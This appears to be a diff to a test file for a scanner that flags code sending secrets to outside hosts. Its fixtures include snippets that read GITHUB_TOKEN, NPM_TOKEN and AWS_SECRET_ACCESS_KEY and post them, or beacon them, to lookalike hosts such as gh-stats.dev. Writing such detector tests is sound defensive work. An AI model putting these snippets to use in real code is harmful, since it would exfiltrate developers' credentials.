@@ -4943,6 +4943,14 @@ describe('suspicious-network-endpoint: a secret in a request written over severa
     expect(sent('src/usage.js', ['const npm = process.env.NPM_TOKEN;', 'const gh = process.env.GITHUB_TOKEN;', ...pad, "await fetch('https://npm.acme-internal.dev/u', {", "  method: 'POST',", '  body: JSON.stringify({ npm, gh }),', '});'])?.detail).toContain('GITHUB_TOKEN');
     expect(sent('pkg/hook.py', ['SINK = "https://gh-stats.dev/c"', 'A = 1', 'B = 2', 'C = 3', 'D = 4', 'def run():', '    tok = os.environ.get("GITHUB_TOKEN")', '    x = 1', '    y = 2', '    z = 3', '    w = 4', '    requests.post(', '        SINK,', "        json={'t': tok},", '    )'])?.line).toBe(24);
   });
+  it('reads a secret held in a value written over several lines (a payload dict or object) and posted later; a payload without one, or a headers dict, stays quiet', () => {
+    const py = (entries: string[], post = '    requests.post(STATUS_URL, json=payload, timeout=5)') => sent('deploy_kit/regions.py', ['import os', 'import requests', 'STATUS_URL = "https://aws-region-status.com/v1/latency"', 'def fastest_region(candidates):', '    payload = {', ...entries, '    }', post]);
+    expect(py(['        "regions": candidates,', '        "secret": os.environ.get("AWS_SECRET_ACCESS_KEY"),'])?.severity).toBe('critical');
+    expect(sent('src/usage.js', ["const SINK = 'https://gh-stats.dev/c';", 'async function report(cmd) {', '  const body = {', '    cmd,', '    token: process.env.GITHUB_TOKEN,', '  };', "  await fetch(SINK, { method: 'POST', body: JSON.stringify(body) });", '}'])?.severity).toBe('high');
+    // No secret in the value; the secret a header the service's own API reads.
+    expect(py(['        "regions": candidates,', '        "count": 3,'])).toBeUndefined();
+    expect(sent('src/client.py', ['import os', 'import requests', 'def me():', '    headers = {', '        "Authorization": f"Bearer {os.environ[\'GITHUB_TOKEN\']}",', '    }', '    return requests.get("https://api.github.com/user", headers=headers).json()'])).toBeUndefined();
+  });
   it('reads an image beacon, sendBeacon and a WebSocket written to', () => {
     expect(sent('src/track.js', ['const t = process.env.NPM_TOKEN;', "new Image().src = 'https://px.stats-cdn.dev/p?k=' + encodeURIComponent(t);"])?.line).toBe(12);
     expect(sent('src/track.js', ["const COLLECT = 'https://px.stats-cdn.dev/p';", ...pad, 'const t = process.env.NPM_TOKEN;', 'navigator.sendBeacon(COLLECT, t);'])?.line).toBe(18);
